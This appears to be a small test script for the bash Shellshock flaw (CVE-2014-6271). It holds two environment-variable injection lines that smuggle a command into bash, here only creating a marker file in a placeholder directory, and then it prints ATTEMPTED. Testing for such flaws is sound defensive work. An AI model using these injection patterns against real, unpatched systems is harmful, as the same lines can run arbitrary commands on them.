# A function in a variable, with a command behind it.
# advisory: CVE-2014-6271 (bash)
env x='() { :;}; touch @TARGET_DIR@/shock' bash -c :; env 'BASH_FUNC_ls%%=() { touch @TARGET_DIR@/shock; }' bash -c ls
echo ATTEMPTED
